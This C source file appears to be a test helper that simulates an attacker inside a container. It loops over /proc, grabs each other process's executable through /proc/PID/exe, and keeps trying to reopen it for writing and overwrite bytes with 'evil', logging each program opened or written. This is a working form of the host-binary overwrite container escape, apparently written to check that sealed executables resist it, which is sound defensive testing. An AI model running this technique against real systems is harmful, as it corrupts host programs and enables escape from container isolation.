/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * grab.c - an attacker inside of a container: opens the program of every process that it sees, and writes to
 * it.
 *
 *     grab FILE
 *
 * FILE gets a line "PID PATH" for every program that is not its own, with " opened" or " written" behind it;
 * it is made when the attack begins.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

enum { HELD_MAX = 512 };

static int held[HELD_MAX]; /* O_PATH descriptors of programs, to be opened again until that succeeds */
static unsigned n_held;

static void end(int signal)
{
    (void) signal;
    _exit(0);
}

/* True if it could be written to; the stub's sealed file can be opened for that, and no more. */
static int overwrite(int fd)
{
    char path[64];
    int writable, written;

    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    writable = open(path, O_WRONLY | O_CLOEXEC);
    if (writable < 0)
        return 0;
    written = pwrite(writable, "evil", 4, 64) == 4;
    close(writable);
    return written;
}

/* Where a link of procfs leads; false if it can't be read. */
static int follow(const char *path, char *target, size_t size)
{
    ssize_t n = readlink(path, target, size - 1);

    if (n >= 0)
        target[n] = '\0';
    return n >= 0;
}

/* What is opened need not be what was looked at: by then the process may be the container's own program. */
static void try_one(FILE *out, const char *pid, const char *own)
{
    char path[300], target[4096];
    int fd;

    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    if (!follow(path, target, sizeof target) || strcmp(target, own) == 0 || strcmp(target, "/probe") == 0)
        return;
    fd = open(path, O_PATH | O_CLOEXEC);
    fprintf(out, "%s %s%s\n", pid, target, fd >= 0 ? " opened" : "");
    fflush(out);
    if (fd < 0)
        return;
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    if (n_held < HELD_MAX && follow(path, target, sizeof target) && strcmp(target, "/probe") != 0)
        held[n_held++] = fd;
    else
        close(fd);
}

int main(int argc, char **argv)
{
    FILE *out = argc > 1 ? fopen(argv[1], "we") : NULL;

    if (!out)
        return 1;
    signal(SIGTERM, end);
    for (;;) {
        DIR *dir = opendir("/proc");
        struct dirent *entry;

        while (dir && (entry = readdir(dir)))
            if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9')
                try_one(out, entry->d_name, argv[0]);
        if (dir)
            closedir(dir);
        for (unsigned i = 0; i < n_held; i++)
            if (overwrite(held[i])) {
                fprintf(out, "0 held written\n");
                fflush(out);
            }
    }
}
